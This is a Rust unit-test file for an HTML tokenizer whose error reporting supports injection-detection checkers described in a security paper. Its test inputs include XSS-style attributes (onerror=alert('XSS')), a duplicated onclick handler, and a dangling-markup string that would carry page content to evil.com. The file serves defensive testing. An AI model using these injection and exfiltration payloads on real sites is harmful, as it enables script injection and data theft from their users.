//! Tokenizer unit tests, including every tokenizer-level error the paper's
//! checkers depend on (FB1, FB2, DM3) and the content-model machinery the
//! DE checkers rely on (RCDATA, RAWTEXT, script data).

use super::*;

fn toks(input: &str) -> (Tokens, Vec<ParseError>) {
    crate::tokenize(input)
}

/// Attribute `name` of `tag`, one of the tags of `tokens`.
fn attr<'a>(tokens: &'a Tokens, tag: &Tag, name: &str) -> Option<&'a Attr> {
    crate::dom::find_attr(tokens.attrs(tag), name)
}

/// The decoded value of attribute `name` of `tag`.
fn value<'a>(tokens: &'a Tokens, tag: &Tag, name: &str) -> Option<&'a str> {
    attr(tokens, tag, name).map(|a| a.value.as_str())
}

fn tag_names(tokens: &[Token]) -> Vec<String> {
    tokens
        .iter()
        .filter_map(|t| match t {
            Token::StartTag(t) => Some(format!("<{}>", t.name)),
            Token::EndTag(t) => Some(format!("</{}>", t.name)),
            _ => None,
        })
        .collect()
}

fn has_error(errs: &[ParseError], code: ErrorCode) -> bool {
    errs.iter().any(|e| e.code == code)
}

fn text_of(tokens: &[Token]) -> String {
    tokens
        .iter()
        .filter_map(|t| match t {
            Token::Characters(s) => Some(s.as_str()),
            _ => None,
        })
        .collect()
}

#[test]
fn simple_start_and_end_tags() {
    let (t, e) = toks("<p>Hello</p>");
    assert_eq!(tag_names(&t), vec!["<p>", "</p>"]);
    assert_eq!(text_of(&t), "Hello");
    assert!(e.is_empty());
}

#[test]
fn tag_names_are_lowercased() {
    let (t, _) = toks("<DIV CLASS=a>");
    let tag = t[0].as_start_tag().unwrap();
    assert_eq!(tag.name, "div");
    assert_eq!(t.attrs(tag)[0].name, "class");
    assert_eq!(t.attrs(tag)[0].value, "a");
}

#[test]
fn attributes_quoted_single_double_unquoted() {
    let (t, e) = toks(r#"<a href="x" title='y' id=z>"#);
    let tag = t[0].as_start_tag().unwrap();
    assert_eq!(value(&t, tag, "href"), Some("x"));
    assert_eq!(value(&t, tag, "title"), Some("y"));
    assert_eq!(value(&t, tag, "id"), Some("z"));
    assert!(e.is_empty());
}

#[test]
fn attribute_without_value() {
    let (t, e) = toks("<input disabled>");
    let tag = t[0].as_start_tag().unwrap();
    assert_eq!(value(&t, tag, "disabled"), Some(""));
    assert!(e.is_empty());
}

#[test]
fn self_closing_flag() {
    let (t, e) = toks("<br/>");
    assert!(t[0].as_start_tag().unwrap().self_closing);
    assert!(e.is_empty());
}

// --- FB1: unexpected-solidus-in-tag ---

#[test]
fn fb1_slash_between_attributes() {
    // The paper's example: <img/src="x"/onerror="alert('XSS')">
    let (t, e) = toks(r#"<img/src="x"/onerror="alert('XSS')">"#);
    assert!(has_error(&e, ErrorCode::UnexpectedSolidusInTag));
    let tag = t[0].as_start_tag().unwrap();
    assert_eq!(value(&t, tag, "src"), Some("x"));
    assert_eq!(value(&t, tag, "onerror"), Some("alert('XSS')"));
}

#[test]
fn fb1_not_triggered_by_valid_self_close() {
    let (_, e) = toks("<img src=x />");
    assert!(!has_error(&e, ErrorCode::UnexpectedSolidusInTag));
}

#[test]
fn fb1_slash_before_unquoted_value_is_part_of_value() {
    // `/` inside an unquoted value is value text, not a solidus error.
    let (t, e) = toks("<a href=/foo/bar>");
    assert!(!has_error(&e, ErrorCode::UnexpectedSolidusInTag));
    assert_eq!(value(&t, t[0].as_start_tag().unwrap(), "href"), Some("/foo/bar"));
}

// --- FB2: missing-whitespace-between-attributes ---

#[test]
fn fb2_missing_space_after_quoted_value() {
    // The paper's example: <img src="users/injection"onerror="alert('XSS')">
    let (t, e) = toks(r#"<img src="users/injection"onerror="alert('XSS')">"#);
    assert!(has_error(&e, ErrorCode::MissingWhitespaceBetweenAttributes));
    let tag = t[0].as_start_tag().unwrap();
    assert_eq!(tag.attrs.len(), 2);
}

#[test]
fn fb2_figure13_iframe_case() {
    // <iframe src="https://foobar"</iframe> — the `<` after `"` becomes an
    // attribute and a missing-whitespace error fires.
    let (t, e) = toks(r#"<iframe src="https://foobar"</iframe>"#);
    assert!(has_error(&e, ErrorCode::MissingWhitespaceBetweenAttributes));
    let tag = t[0].as_start_tag().unwrap();
    assert!(t.attrs(tag).iter().any(|a| a.name.starts_with('<')));
}

#[test]
fn fb2_not_triggered_with_space() {
    let (_, e) = toks(r#"<img src="x" onerror="y">"#);
    assert!(!has_error(&e, ErrorCode::MissingWhitespaceBetweenAttributes));
}

// --- DM3: duplicate-attribute ---

#[test]
fn dm3_duplicate_attribute_dropped_and_reported() {
    let (t, e) = toks(r#"<div id="injection" onclick="evil()" onclick="benign()">"#);
    assert!(has_error(&e, ErrorCode::DuplicateAttribute));
    let tag = t[0].as_start_tag().unwrap();
    // Spec: the first occurrence wins; the duplicate is dropped.
    assert_eq!(value(&t, tag, "onclick"), Some("evil()"));
    assert_eq!(tag.duplicate_attrs.len(), 1);
    assert_eq!(tag.duplicate_attrs[0].value, "benign()");
}

#[test]
fn dm3_case_insensitive_duplicate() {
    let (_, e) = toks("<img SRC=a src=b>");
    assert!(has_error(&e, ErrorCode::DuplicateAttribute));
}

#[test]
fn dm3_not_triggered_on_distinct() {
    let (_, e) = toks("<img src=a alt=b>");
    assert!(!has_error(&e, ErrorCode::DuplicateAttribute));
}

// --- character references ---

#[test]
fn charref_in_data() {
    let (t, _) = toks("a&amp;b");
    assert_eq!(text_of(&t), "a&b");
}

#[test]
fn charref_in_attribute_decoded_with_raw_preserved() {
    let (t, _) = toks(r#"<img title="--&gt;&lt;img&gt;">"#);
    let tag = t[0].as_start_tag().unwrap();
    let attr = attr(&t, tag, "title").unwrap();
    assert_eq!(attr.value, "--><img>");
    assert_eq!(attr.raw_value(), "--&gt;&lt;img&gt;");
}

#[test]
fn charref_legacy_attr_divergence() {
    // `&not` followed by alphanumeric in an attribute is NOT decoded
    // (historical compat), but in data it is.
    let (t, _) = toks(r#"<a href="?a=b&notc=d">x&notc"#);
    let tag = t[0].as_start_tag().unwrap();
    assert_eq!(value(&t, tag, "href"), Some("?a=b&notc=d"));
    assert_eq!(text_of(&t), "x¬c");
}

#[test]
fn charref_numeric_in_attr() {
    let (t, _) = toks(r#"<a data-x="&#65;&#x42;">"#);
    assert_eq!(value(&t, t[0].as_start_tag().unwrap(), "data-x"), Some("AB"));
}

#[test]
fn missing_semicolon_reported() {
    let (_, e) = toks("&amp x");
    assert!(has_error(&e, ErrorCode::MissingSemicolonAfterCharacterReference));
}

// --- comments ---

#[test]
fn simple_comment() {
    let (t, e) = toks("<!-- hello -->");
    assert_eq!(t[0], Token::Comment(" hello ".into()));
    assert!(e.is_empty());
}

#[test]
fn abrupt_comment_close() {
    let (t, e) = toks("<!-->x");
    assert!(has_error(&e, ErrorCode::AbruptClosingOfEmptyComment));
    assert_eq!(t[0], Token::Comment(String::new()));
}

#[test]
fn incorrectly_closed_comment() {
    let (t, e) = toks("<!--x--!>y");
    assert!(has_error(&e, ErrorCode::IncorrectlyClosedComment));
    assert_eq!(t[0], Token::Comment("x".into()));
    assert_eq!(text_of(&t), "y");
}

#[test]
fn nested_comment_error() {
    let (_, e) = toks("<!-- a <!-- b --> c");
    assert!(has_error(&e, ErrorCode::NestedComment));
}

#[test]
fn bogus_comment_from_question_mark() {
    let (t, e) = toks("<?xml version=\"1.0\"?>");
    assert!(has_error(&e, ErrorCode::UnexpectedQuestionMarkInsteadOfTagName));
    assert!(matches!(&t[0], Token::Comment(c) if c.starts_with("?xml")));
}

#[test]
fn cdata_outside_foreign_content_is_bogus_comment() {
    let (t, e) = toks("<![CDATA[x]]>");
    assert!(has_error(&e, ErrorCode::CdataInHtmlContent));
    assert!(matches!(&t[0], Token::Comment(c) if c.starts_with("[CDATA[")));
}

// --- DOCTYPE ---

#[test]
fn simple_doctype() {
    let (t, e) = toks("<!DOCTYPE html>");
    match &t[0] {
        Token::Doctype(d) => {
            assert_eq!(d.name.as_deref(), Some("html"));
            assert!(!d.force_quirks);
        }
        other => panic!("expected doctype, got {other:?}"),
    }
    assert!(e.is_empty());
}

#[test]
fn doctype_with_public_id() {
    let (t, _) = toks(r#"<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN">"#);
    match &t[0] {
        Token::Doctype(d) => {
            assert_eq!(d.public_id.as_deref(), Some("-//W3C//DTD HTML 4.01//EN"));
        }
        other => panic!("expected doctype, got {other:?}"),
    }
}

#[test]
fn doctype_case_insensitive() {
    let (t, _) = toks("<!doctype HTML>");
    assert!(matches!(&t[0], Token::Doctype(d) if d.name.as_deref() == Some("html")));
}

// --- RCDATA / RAWTEXT / script data ---

#[test]
fn textarea_content_is_rcdata() {
    let (t, _) = toks("<textarea><p>not a tag</p></textarea>");
    assert_eq!(tag_names(&t), vec!["<textarea>", "</textarea>"]);
    assert_eq!(text_of(&t), "<p>not a tag</p>");
}

#[test]
fn rcdata_decodes_charrefs() {
    let (t, _) = toks("<title>a &amp; b</title>");
    assert_eq!(text_of(&t), "a & b");
}

#[test]
fn style_content_is_rawtext_no_charref() {
    let (t, _) = toks("<style>a &amp; <b></style>");
    assert_eq!(tag_names(&t), vec!["<style>", "</style>"]);
    assert_eq!(text_of(&t), "a &amp; <b>");
}

#[test]
fn script_content_swallows_tags() {
    let (t, _) = toks("<script>if (a < b) { x(\"</div>\"); }</script>");
    assert_eq!(tag_names(&t), vec!["<script>", "</script>"]);
}

#[test]
fn script_double_escape() {
    // <!--<script> inside script data enters double-escaped state; the inner
    // </script> does not close the element.
    let (t, _) = toks("<script><!--<script>x</script>--></script>");
    assert_eq!(tag_names(&t), vec!["<script>", "</script>"]);
    assert_eq!(text_of(&t), "<!--<script>x</script>-->");
}

#[test]
fn rcdata_case_insensitive_end_tag() {
    let (t, _) = toks("<textarea>x</TEXTAREA>");
    assert_eq!(tag_names(&t), vec!["<textarea>", "</textarea>"]);
}

#[test]
fn rcdata_non_matching_end_tag_is_text() {
    let (t, _) = toks("<textarea></div></textarea>");
    assert_eq!(tag_names(&t), vec!["<textarea>", "</textarea>"]);
    assert_eq!(text_of(&t), "</div>");
}

#[test]
fn unterminated_textarea_hits_eof() {
    // DE1's raw material: everything to EOF is swallowed as text.
    let (t, _) = toks("<textarea><p>My little secret</p>");
    assert_eq!(tag_names(&t), vec!["<textarea>"]);
    assert_eq!(text_of(&t), "<p>My little secret</p>");
}

// --- end tag anomalies ---

#[test]
fn end_tag_with_attributes_error() {
    let (_, e) = toks("</div class=x>");
    assert!(has_error(&e, ErrorCode::EndTagWithAttributes));
}

#[test]
fn missing_end_tag_name() {
    let (t, e) = toks("a</>b");
    assert!(has_error(&e, ErrorCode::MissingEndTagName));
    assert_eq!(text_of(&t), "ab");
}

#[test]
fn invalid_first_char_of_tag_name_emits_lt() {
    let (t, e) = toks("a < b");
    assert!(has_error(&e, ErrorCode::InvalidFirstCharacterOfTagName));
    assert_eq!(text_of(&t), "a < b");
}

// --- EOF edge cases ---

#[test]
fn eof_in_tag() {
    let (_, e) = toks("<img src=");
    assert!(has_error(&e, ErrorCode::EofInTag));
}

#[test]
fn eof_in_quoted_attribute() {
    // A forgotten closing quote swallows the rest of the file (the dangling
    // markup mechanism) and errors at EOF.
    let (t, e) = toks("<img src='http://evil.com/?content=<p>secret</p>");
    assert!(has_error(&e, ErrorCode::EofInTag));
    assert!(tag_names(&t).is_empty());
}

#[test]
fn eof_before_tag_name() {
    let (t, e) = toks("abc<");
    assert!(has_error(&e, ErrorCode::EofBeforeTagName));
    assert_eq!(text_of(&t), "abc<");
}

#[test]
fn eof_in_comment() {
    let (t, e) = toks("<!-- never closed");
    assert!(has_error(&e, ErrorCode::EofInComment));
    assert!(matches!(&t[0], Token::Comment(c) if c == " never closed"));
}

#[test]
fn empty_input_is_just_eof() {
    let (t, e) = toks("");
    assert_eq!(t[..], [Token::Eof]);
    assert!(e.is_empty());
}

// --- offsets ---

#[test]
fn tag_offsets_point_at_angle_bracket() {
    let (t, _) = toks("ab<p>cd</p>");
    match &t[1] {
        Token::StartTag(tag) => assert_eq!(tag.offset, 2),
        other => panic!("unexpected {other:?}"),
    }
}

#[test]
fn duplicate_attr_error_offset_points_at_name() {
    let input = "<img src=a src=b>";
    let (_, e) = toks(input);
    let err = e.iter().find(|e| e.code == ErrorCode::DuplicateAttribute).unwrap();
    // Offset of the second `src`.
    assert_eq!(err.offset, 11);
}

// --- NUL handling ---

#[test]
fn nul_in_data_reported() {
    let (_, e) = toks("a\0b");
    assert!(has_error(&e, ErrorCode::UnexpectedNullCharacter));
}

#[test]
fn nul_in_tag_name_becomes_replacement() {
    let (t, e) = toks("<di\0v>");
    assert!(has_error(&e, ErrorCode::UnexpectedNullCharacter));
    assert_eq!(t[0].as_start_tag().unwrap().name, "di\u{FFFD}v");
}

// --- unquoted-value anomalies (Figure 13 cases) ---

#[test]
fn quote_in_unquoted_value_errors() {
    // <option value='Cote d'Ivoire'> — the quote inside closes the value,
    // and `Ivoire'` becomes a separate attribute.
    let (t, e) = toks("<option value='Cote d'Ivoire'>");
    // After the value `Cote d` ends at the second quote, `Ivoire'` is
    // lexed as a new attribute name (with a quote character error).
    assert!(
        has_error(&e, ErrorCode::MissingWhitespaceBetweenAttributes)
            || has_error(&e, ErrorCode::UnexpectedCharacterInAttributeName)
    );
    let tag = t[0].as_start_tag().unwrap();
    assert_eq!(value(&t, tag, "value"), Some("Cote d"));
}

#[test]
fn lt_in_attribute_name_errors() {
    let (_, e) = toks(r#"<iframe src="x"<"#);
    assert!(has_error(&e, ErrorCode::MissingWhitespaceBetweenAttributes));
}

// --- direct driving of the tokenizer (feedback API) ---

#[test]
fn manual_feedback_controls_content_model() {
    let mut tok = Tokenizer::new("<div>a</div>");
    tok.set_state(State::Plaintext);
    // In PLAINTEXT everything is text; no tags are produced.
    let mut texts = String::new();
    loop {
        match tok.next_token(&mut Vec::new()) {
            Token::Characters(s) => texts.push_str(&s),
            Token::Eof => break,
            other => panic!("unexpected token {other:?}"),
        }
    }
    assert_eq!(texts, "<div>a</div>");
}

#[test]
fn allow_cdata_pass_through() {
    let mut tok = Tokenizer::new("<![CDATA[x<y]]>");
    tok.set_allow_cdata(true);
    let mut texts = String::new();
    loop {
        match tok.next_token(&mut Vec::new()) {
            Token::Characters(s) => texts.push_str(&s),
            Token::Eof => break,
            other => panic!("unexpected token {other:?}"),
        }
    }
    assert_eq!(texts, "x<y");
    assert!(tok.take_errors().is_empty());
}

// --- deeper edge-case coverage ---

/// The tag lane's exits: each place it opens a tag from Data, hands a byte
/// to the scalar machine, or stops after the emitted `>` so that the
/// content-model feedback lands first. Tokens (with tag and attribute
/// offsets) and errors (codes and offsets) must equal the pure spec
/// machine's.
#[test]
fn tag_lane_matches_the_scalar_machine_at_its_exits() {
    for input in [
        "<",
        "</",
        "<a",
        "</a",
        "</>",
        "<1",
        "a<b",
        "<a<b>",
        "</a b=c>",
        "<a/>",
        "<A HREF=X>",
        "<p>&amp;<b>",
        "x<!--c-->",
        "<?x>",
        "<a\r\nb=c>",
        "<é>",
        "<p a=\"x",
        "<title>a<b</title>",
        "<script>x</script>",
    ] {
        assert_eq!(crate::tokenize(input), crate::tokenize_scalar(input), "input {input:?}");
    }
}

mod edge_cases {
    use super::*;

    #[test]
    fn doctype_missing_public_quote() {
        let (_, e) = toks("<!DOCTYPE html PUBLIC nope>");
        assert!(has_error(&e, ErrorCode::MissingQuoteBeforeDoctypePublicIdentifier));
    }

    #[test]
    fn doctype_abrupt_public_id() {
        let (t, e) = toks("<!DOCTYPE html PUBLIC \"-//W3C\">x");
        assert!(!has_error(&e, ErrorCode::AbruptDoctypePublicIdentifier));
        match &t[0] {
            Token::Doctype(d) => assert_eq!(d.public_id.as_deref(), Some("-//W3C")),
            other => panic!("{other:?}"),
        }
        // Truly abrupt: `>` inside the quoted identifier.
        let (t, e) = toks("<!DOCTYPE html PUBLIC \"-//W3>");
        assert!(has_error(&e, ErrorCode::AbruptDoctypePublicIdentifier));
        assert!(matches!(&t[0], Token::Doctype(d) if d.force_quirks));
    }

    #[test]
    fn doctype_public_and_system() {
        let (t, e) = toks(r#"<!DOCTYPE html PUBLIC "p" "s">"#);
        assert!(e.is_empty());
        match &t[0] {
            Token::Doctype(d) => {
                assert_eq!(d.public_id.as_deref(), Some("p"));
                assert_eq!(d.system_id.as_deref(), Some("s"));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn doctype_missing_whitespace_between_ids() {
        let (_, e) = toks(r#"<!DOCTYPE html PUBLIC "p""s">"#);
        assert!(has_error(
            &e,
            ErrorCode::MissingWhitespaceBetweenDoctypePublicAndSystemIdentifiers
        ));
    }

    #[test]
    fn doctype_system_only() {
        let (t, _) = toks(r#"<!DOCTYPE html SYSTEM "about:legacy-compat">"#);
        assert!(
            matches!(&t[0], Token::Doctype(d) if d.system_id.as_deref() == Some("about:legacy-compat"))
        );
    }

    #[test]
    fn doctype_bogus_name_sequence() {
        let (t, e) = toks("<!DOCTYPE html bogus stuff>");
        assert!(has_error(&e, ErrorCode::InvalidCharacterSequenceAfterDoctypeName));
        assert!(matches!(&t[0], Token::Doctype(d) if d.force_quirks));
    }

    #[test]
    fn comment_with_lt_bang_inside() {
        // <!-- a <! b --> — the CommentLessThanBang machinery.
        let (t, e) = toks("<!-- a <! b -->");
        assert_eq!(t[0], Token::Comment(" a <! b ".into()));
        assert!(e.is_empty());
    }

    #[test]
    fn comment_with_inner_dashes() {
        let (t, _) = toks("<!-- a -- b --->");
        assert_eq!(t[0], Token::Comment(" a -- b -".into()));
    }

    #[test]
    fn ambiguous_ampersand_error_only_with_semicolon() {
        let (_, e) = toks("&noref;");
        assert!(has_error(&e, ErrorCode::UnknownNamedCharacterReference));
        let (_, e) = toks("&noref ");
        assert!(!has_error(&e, ErrorCode::UnknownNamedCharacterReference));
    }

    #[test]
    fn numeric_ref_missing_digits() {
        let (t, e) = toks("x&#;y&#xzz;");
        assert!(has_error(&e, ErrorCode::AbsenceOfDigitsInNumericCharacterReference));
        assert_eq!(text_of(&t), "x&#;y&#xzz;");
    }

    #[test]
    fn numeric_ref_missing_semicolon() {
        let (t, e) = toks("&#65x");
        assert!(has_error(&e, ErrorCode::MissingSemicolonAfterNumericCharacterReference));
        assert_eq!(text_of(&t), "Ax");
    }

    #[test]
    fn numeric_control_reference_remapped() {
        let (t, e) = toks("&#x80;");
        assert!(has_error(&e, ErrorCode::ControlCharacterReference));
        assert_eq!(text_of(&t), "€");
    }

    #[test]
    fn charref_at_eof_variants() {
        for input in ["&", "&a", "&#", "&#x", "&#38"] {
            let (t, _) = toks(input);
            // Never panics, always flushes something sensible.
            let text = text_of(&t);
            assert!(!text.is_empty(), "{input} produced empty text");
        }
    }

    #[test]
    fn equals_before_attribute_name() {
        let (t, e) = toks("<div =oops>");
        assert!(has_error(&e, ErrorCode::UnexpectedEqualsSignBeforeAttributeName));
        let tag = t[0].as_start_tag().unwrap();
        assert_eq!(t.attrs(tag)[0].name, "=oops");
    }

    #[test]
    fn missing_attribute_value() {
        let (t, e) = toks("<div id=>");
        assert!(has_error(&e, ErrorCode::MissingAttributeValue));
        assert_eq!(value(&t, t[0].as_start_tag().unwrap(), "id"), Some(""));
    }

    #[test]
    fn unquoted_value_bad_chars() {
        let (t, e) = toks("<div data-x=a`b>");
        assert!(has_error(&e, ErrorCode::UnexpectedCharacterInUnquotedAttributeValue));
        assert_eq!(value(&t, t[0].as_start_tag().unwrap(), "data-x"), Some("a`b"));
    }

    #[test]
    fn self_closing_end_tag_error() {
        let (_, e) = toks("</div/>");
        assert!(has_error(&e, ErrorCode::EndTagWithTrailingSolidus));
    }

    #[test]
    fn script_escaped_state_end_tag() {
        // Inside <!-- --> in script data, </script> DOES close (escaped,
        // not double-escaped).
        let (t, _) = toks("<script><!-- x --></script>y");
        assert_eq!(tag_names(&t), vec!["<script>", "</script>"]);
        assert!(text_of(&t).ends_with('y'));
    }

    #[test]
    fn script_eof_in_comment_like_text() {
        let (_, e) = toks("<script><!-- never closed");
        assert!(has_error(&e, ErrorCode::EofInScriptHtmlCommentLikeText));
    }

    #[test]
    fn rawtext_end_tag_with_attributes_still_closes() {
        let (t, e) = toks("<style>x</style foo=bar>y");
        assert_eq!(tag_names(&t), vec!["<style>", "</style>"]);
        assert!(has_error(&e, ErrorCode::EndTagWithAttributes));
        assert!(text_of(&t).ends_with('y'));
    }

    #[test]
    fn textarea_partial_end_tag_prefix() {
        // "</textare" then more text: not an appropriate end tag.
        let (t, _) = toks("<textarea></textare>x</textarea>");
        assert_eq!(text_of(&t), "</textare>x");
        assert_eq!(tag_names(&t), vec!["<textarea>", "</textarea>"]);
    }

    #[test]
    fn cdata_bracket_machinery() {
        let mut tok = Tokenizer::new("<![CDATA[a]b]]c]]>");
        tok.set_allow_cdata(true);
        let mut text = String::new();
        loop {
            match tok.next_token(&mut Vec::new()) {
                Token::Characters(s) => text.push_str(&s),
                Token::Eof => break,
                other => panic!("{other:?}"),
            }
        }
        assert_eq!(text, "a]b]]c");
    }

    #[test]
    fn offsets_monotonic_across_errors() {
        let (_, e) = toks("<img src=a src=b><div id=x id=y><p/ q>");
        let offsets: Vec<usize> = e.iter().map(|e| e.offset).collect();
        let mut sorted = offsets.clone();
        sorted.sort_unstable();
        assert_eq!(offsets, sorted, "tokenizer errors must be emitted in order");
    }

    #[test]
    fn attr_raw_value_slices_match_source() {
        let input = r#"<a href="a&amp;b" title='c&#38;d' rel=e&amp;f>"#;
        let (t, _) = toks(input);
        let tag = t[0].as_start_tag().unwrap();
        assert_eq!(attr(&t, tag, "href").unwrap().raw_value(), "a&amp;b");
        assert_eq!(attr(&t, tag, "href").unwrap().value, "a&b");
        assert_eq!(attr(&t, tag, "title").unwrap().raw_value(), "c&#38;d");
        assert_eq!(attr(&t, tag, "title").unwrap().value, "c&d");
        assert_eq!(attr(&t, tag, "rel").unwrap().raw_value(), "e&amp;f");
        assert_eq!(attr(&t, tag, "rel").unwrap().value, "e&f");
    }
}
